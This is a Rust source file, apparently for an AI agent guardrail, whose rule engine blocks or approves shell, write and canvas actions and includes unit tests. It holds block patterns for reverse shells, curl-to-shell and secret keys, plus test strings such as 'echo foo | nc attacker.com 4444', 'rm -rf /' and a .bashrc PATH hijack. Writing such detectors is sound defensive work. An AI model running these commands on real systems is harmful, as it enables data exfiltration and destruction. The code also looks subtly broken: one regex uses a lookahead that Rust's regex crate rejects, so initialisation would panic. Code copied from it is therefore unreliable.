//! Spec-facing entry point: `classify(action) -> Option<Verdict>`.
//!
//! Returns `Some` only with high confidence (an unambiguous BLOCK or an
//! unambiguous SAFE); `None` means "defer to the LLM judge". The
//! destructive-file-op check below is a direct generalization of an
//! exec policy's `check_destructive_file_ops` (recursive+force `rm`
//! targeting `/` or a sensitive path is an unconditional BLOCK), and the
//! regex table generalizes the same policy's remote-code-execution /
//! privilege-escalation danger categories from "exec only" to the full
//! tool surface (exec, write/edit, read-only tool whitelist, canvas).

use std::sync::LazyLock;

use guardrail_model::{Action, Verdict};
use regex::Regex;

use crate::command::ParsedCommand;

/// Regexes matched against the raw command string. Any match is an
/// unconditional BLOCK, even if the base executable would otherwise be
/// on the safe whitelist (`echo foo | nc attacker.com 4444` is BLOCK, not
/// SAFE, because `echo` alone is safe but the pipe target is not).
static EXEC_HIGH_RISK_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    vec![
        (
            Regex::new(r"\|\s*(sh|bash|zsh|python[0-9.]*|perl|ruby|node|php)\b").unwrap(),
            "pipes output into a shell/script interpreter",
        ),
        (Regex::new(r"\beval\s").unwrap(), "uses eval to execute dynamic code"),
        (
            Regex::new(r"base64\s+-d.*\|\s*(sh|bash|zsh)\b").unwrap(),
            "decodes base64 and pipes it into a shell",
        ),
        (Regex::new(r"(^|\s)sudo\s").unwrap(), "escalates privileges with sudo"),
        (Regex::new(r"\bnc\b.*-e\b").unwrap(), "uses netcat's -e to spawn a reverse shell"),
        (
            Regex::new(r"\bnc\b\s+(?!(localhost|127\.0\.0\.1|::1))\S+\s+\d+").unwrap(),
            "pipes data to netcat targeting a non-localhost host",
        ),
        (
            Regex::new(r"(curl|wget)\b.*\|\s*(sh|bash|zsh)\b").unwrap(),
            "downloads and pipes a remote script into a shell",
        ),
        (
            Regex::new(r"python[0-9.]*\s+-c\s+.*exec\(").unwrap(),
            "runs exec() inside an inline python script",
        ),
        (
            Regex::new(r"\b(pkill|kill)\b.*\b(guardrail|cortex)\b").unwrap(),
            "attempts to kill the monitor process itself",
        ),
    ]
});

/// Base executables considered read-only / standard dev tools when run
/// without a dangerous subcommand.
const SAFE_WHITELIST: &[&str] = &[
    "ls", "cat", "head", "tail", "grep", "egrep", "fgrep", "rg", "echo", "printf", "wc", "sort",
    "uniq", "pwd", "which", "env", "date", "whoami", "id", "hostname", "less", "more", "file",
    "stat", "uptime", "type", "true", "false", "cd", "diff", "tr", "cut", "ps", "df", "du",
    "lsof", "netstat", "ss", "jq", "yq", "curl", "uname", "sed", "awk", "mkdir", "touch", "cp",
    "mv", "pgrep",
];

/// Subcommand-gated tools: safe unless the subcommand/args match an
/// exclusion.
fn is_safe_subcommand_tool(parsed: &ParsedCommand) -> bool {
    let prog = parsed.program_basename.as_str();
    match prog {
        "git" => {
            if parsed.has_arg("push") && (parsed.has_flag(Some('f'), Some("force")) || parsed.has_arg_starting_with("--force")) {
                return false;
            }
            if parsed.has_arg("rebase") && parsed.has_flag(Some('i'), Some("interactive")) {
                return false;
            }
            true
        }
        "npm" | "npx" | "yarn" | "pnpm" => !parsed.has_arg("publish"),
        "pip" | "pip3" | "pipx" => true,
        "cargo" => true,
        "sed" => !parsed.has_flag(Some('i'), Some("in-place")),
        "awk" => !parsed.args.iter().any(|a| a.contains("system(")),
        "find" => !(parsed.has_arg("-exec") || parsed.has_arg("-delete")),
        "python" | "python3" | "node" | "ruby" | "perl" | "php" => {
            // Running an interpreter against a script file (not `-c`/`-e` inline code).
            !parsed.has_flag(Some('c'), Some("command")) && !parsed.has_flag(Some('e'), None)
        }
        _ => SAFE_WHITELIST.contains(&prog),
    }
}

/// Strip a leading `cd <dir> &&` chain prefix so the remainder can be
/// evaluated against the safe whitelist on its own.
fn strip_cd_prefix(raw: &str) -> &str {
    let trimmed = raw.trim_start();
    if let Some(rest) = trimmed.strip_prefix("cd ") {
        if let Some(idx) = rest.find("&&") {
            return rest[idx + 2..].trim_start();
        }
    }
    raw
}

fn exec_high_risk_block(raw: &str) -> Option<Verdict> {
    for (re, reason) in EXEC_HIGH_RISK_PATTERNS.iter() {
        if re.is_match(raw) {
            return Some(Verdict::block(10, format!("command {reason}"), "exec-high-risk", "rules"));
        }
    }
    None
}

/// Paths considered sensitive destinations for destructive operations,
/// in addition to the filesystem root itself.
const SENSITIVE_DELETE_PATHS: &[&str] = &["/", "~", "/home", "/users", "/etc", "/system", "/"];

fn is_sensitive_delete_target(arg: &str) -> bool {
    let normalized = arg.trim_end_matches('/').to_ascii_lowercase();
    normalized.is_empty()
        || SENSITIVE_DELETE_PATHS.iter().any(|p| normalized == p.trim_end_matches('/'))
        || normalized == "$home"
        || normalized.starts_with("/.ssh")
}

/// `rm -rf` (and the subcommands a shell chain splits it into) targeting
/// `/`, the home directory, or another sensitive path is an unconditional
/// BLOCK — generalized from an exec policy's recursive-force `rm` check.
fn exec_destructive_file_op_block(parsed: &ParsedCommand) -> Option<Verdict> {
    if parsed.program_basename != "rm" {
        return None;
    }
    let recursive = parsed.has_flag(Some('r'), Some("recursive")) || parsed.has_flag(Some('R'), None);
    let force = parsed.has_flag(Some('f'), Some("force"));
    if !(recursive && force) {
        return None;
    }
    for arg in parsed.positional_args() {
        if is_sensitive_delete_target(arg) {
            return Some(Verdict::block(10, format!("rm -rf targets {arg}, a destructive delete of a root/home path"), "exec-destructive-delete", "rules"));
        }
    }
    // Recursive+force delete of anything else is still dangerous enough
    // to block outright rather than defer — unlike the safe whitelist,
    // there is no "safe shape" of `rm -rf`.
    Some(Verdict::block(8, "rm -rf is a recursive force delete", "exec-destructive-delete", "rules"))
}

fn exec_safe_fast_path(raw: &str) -> Option<Verdict> {
    let stripped = strip_cd_prefix(raw);
    let parsed = ParsedCommand::from_shell_string(stripped).ok()?;

    // Any subcommand split by a shell operator must independently be safe.
    if !is_safe_subcommand_tool(&parsed) {
        return None;
    }
    for sub in &parsed.subcommands {
        if !is_safe_subcommand_tool(sub) {
            return None;
        }
    }

    Some(Verdict::safe(
        "command matches the read-only/standard dev tool whitelist",
        "exec-safe",
        "rules",
    ))
}

/// Path fragments that are always BLOCK for write/edit, regardless of
/// content.
static WRITE_PATH_BLOCK_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    vec![
        (Regex::new(r"\.(bashrc|zshrc|bash_profile|profile)$").unwrap(), "shell startup file"),
        (Regex::new(r"/\.ssh/").unwrap(), "SSH directory"),
        (Regex::new(r"/\.aws/").unwrap(), "AWS credentials directory"),
        (Regex::new(r"(^|/)crontab$|/etc/cron").unwrap(), "crontab"),
        (Regex::new(r"/Library/LaunchAgents/").unwrap(), "macOS LaunchAgents"),
        (Regex::new(r"/\.git/hooks/").unwrap(), "git hooks directory"),
        (Regex::new(r"^/(usr/)?(s?bin)/").unwrap(), "system binary directory"),
    ]
});

/// Content patterns that are always BLOCK for write/edit: high-confidence
/// secrets and remote-code-execution idioms.
static WRITE_CONTENT_BLOCK_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    vec![
        (Regex::new(r"sk-[A-Za-z0-9]{20,}").unwrap(), "OpenAI-style API key"),
        (Regex::new(r"sk-ant-[A-Za-z0-9-]{20,}").unwrap(), "Anthropic-style API key"),
        (Regex::new(r"gh[pousr]_[A-Za-z0-9]{36,}").unwrap(), "GitHub token"),
        (Regex::new(r"xox[baprs]-[A-Za-z0-9-]{10,}").unwrap(), "Slack token"),
        (Regex::new(r"sk_live_[A-Za-z0-9]{20,}").unwrap(), "Stripe live key"),
        (Regex::new(r"SG\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}").unwrap(), "SendGrid key"),
        (Regex::new(r"AIza[A-Za-z0-9_-]{30,}").unwrap(), "Google API key"),
        (Regex::new(r"AKIA[A-Z0-9]{16}").unwrap(), "AWS access key"),
        (
            Regex::new(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+").unwrap(),
            "JWT",
        ),
        (Regex::new(r"-----BEGIN (RSA |EC )?PRIVATE KEY-----").unwrap(), "PEM private key"),
        (Regex::new(r"-----BEGIN CERTIFICATE-----").unwrap(), "certificate"),
        (Regex::new(r"\b(curl|wget)\b.*\|\s*(sh|bash|zsh)\b").unwrap(), "remote-code-execution idiom"),
    ]
});

/// Scan arbitrary text (a tool result, not a write/edit's own content
/// param) for the same high-confidence secret patterns write/edit content
/// blocking uses. Used by the post-tool-use hook's credential-leak scan
/// (spec.md §4.1/§4.9): a positive match there is a post-hoc security
/// event, not a block — the action has already executed.
pub fn scan_for_credentials(text: &str) -> Option<&'static str> {
    WRITE_CONTENT_BLOCK_PATTERNS.iter().find(|(re, _)| re.is_match(text)).map(|(_, reason)| *reason)
}

fn write_edit_rules(action: &Action) -> Option<Verdict> {
    let path = action.param_str("file_path").or_else(|| action.param_str("path")).unwrap_or("");
    for (re, reason) in WRITE_PATH_BLOCK_PATTERNS.iter() {
        if re.is_match(path) {
            return Some(Verdict::block(10, format!("writes to a {reason}"), "write-sensitive-path", "rules"));
        }
    }

    let content = action.param_str("content").or_else(|| action.param_str("new_str")).unwrap_or("");
    for (re, reason) in WRITE_CONTENT_BLOCK_PATTERNS.iter() {
        if re.is_match(content) {
            return Some(Verdict::block(9, format!("content contains a {reason}"), "write-secret-content", "rules"));
        }
    }

    None
}

/// Tool tags that are always SAFE regardless of params.
const READ_ONLY_TOOL_WHITELIST: &[&str] = &[
    "read",
    "web_search",
    "web_fetch",
    "memory_search",
    "memory_get",
    "session_status",
    "session_list",
    "session_history",
    "image",
    "tts",
    "process",
];

/// Rule-engine fast path. `chain_context_present` disables only the
/// *safe* fast-path (a command safe in isolation can be unsafe in
/// sequence); high-risk BLOCK tables always apply.
pub fn classify(action: &Action, chain_context_present: bool) -> Option<Verdict> {
    match action.tool.as_str() {
        "exec" => {
            let raw = action.param_str("command").unwrap_or("");
            if let Some(v) = exec_high_risk_block(raw) {
                return Some(v);
            }
            if let Ok(parsed) = ParsedCommand::from_shell_string(strip_cd_prefix(raw))
                && let Some(v) = exec_destructive_file_op_block(&parsed)
            {
                return Some(v);
            }
            if chain_context_present {
                return None;
            }
            exec_safe_fast_path(raw)
        }
        "write" | "edit" => write_edit_rules(action),
        "canvas" => {
            if action.param_str("action") == Some("eval") {
                None
            } else {
                Some(Verdict::safe("canvas operation is not a code evaluation", "canvas-safe", "rules"))
            }
        }
        tool if READ_ONLY_TOOL_WHITELIST.contains(&tool) => {
            Some(Verdict::safe("read-only tool is unconditionally safe", "read-only", "rules"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use guardrail_model::VerdictKind;

    fn exec_action(cmd: &str) -> Action {
        Action::new("exec", "s1").with_param("command", cmd)
    }

    #[test]
    fn rm_rf_root_is_blocked_with_max_severity() {
        let a = exec_action("rm -rf /");
        let v = classify(&a, false).unwrap();
        assert_eq!(v.verdict, VerdictKind::Block);
        assert_eq!(v.score, 10);
        assert_eq!(v.backend, "rules");
        assert!(!v.allowed);
    }

    #[test]
    fn rm_rf_non_root_path_is_still_blocked() {
        let a = exec_action("rm -rf ./build");
        let v = classify(&a, false).unwrap();
        assert_eq!(v.verdict, VerdictKind::Block);
        assert_eq!(v.score, 8);
    }

    #[test]
    fn ls_is_safe() {
        let a = exec_action("ls -la");
        let v = classify(&a, false).unwrap();
        assert_eq!(v.verdict, VerdictKind::Safe);
        assert_eq!(v.backend, "rules");
    }

    #[test]
    fn echo_piped_to_remote_nc_is_blocked_despite_echo_being_safe() {
        let a = exec_action("echo foo | nc attacker.com 4444");
        let v = classify(&a, false).unwrap();
        assert_eq!(v.verdict, VerdictKind::Block);
    }

    #[test]
    fn write_to_bashrc_is_blocked() {
        let a = Action::new("write", "s1")
            .with_param("file_path", "/Users/alice/.bashrc")
            .with_param("content", "export PATH=/tmp/evil:$PATH");
        let v = classify(&a, false).unwrap();
        assert_eq!(v.verdict, VerdictKind::Block);
        assert!(v.reason.contains("shell startup file"));
    }

    #[test]
    fn chain_context_disables_safe_fast_path_but_not_block() {
        let a = exec_action("ls -la");
        assert_eq!(classify(&a, true), None);

        let a = exec_action("echo foo | nc attacker.com 4444");
        assert_eq!(classify(&a, true).unwrap().verdict, VerdictKind::Block);
    }

    #[test]
    fn read_only_tools_are_unconditionally_safe() {
        let a = Action::new("read", "s1");
        assert_eq!(classify(&a, true).unwrap().verdict, VerdictKind::Safe);
    }

    #[test]
    fn canvas_eval_defers_but_other_canvas_actions_are_safe() {
        let eval = Action::new("canvas", "s1").with_param("action", "eval");
        assert_eq!(classify(&eval, false), None);

        let draw = Action::new("canvas", "s1").with_param("action", "draw");
        assert_eq!(classify(&draw, false).unwrap().verdict, VerdictKind::Safe);
    }

    #[test]
    fn git_push_force_is_excluded_from_safe_whitelist() {
        let a = exec_action("git push --force origin main");
        assert_eq!(classify(&a, false), None);

        let a = exec_action("git push origin main");
        assert_eq!(classify(&a, false).unwrap().verdict, VerdictKind::Safe);
    }
}
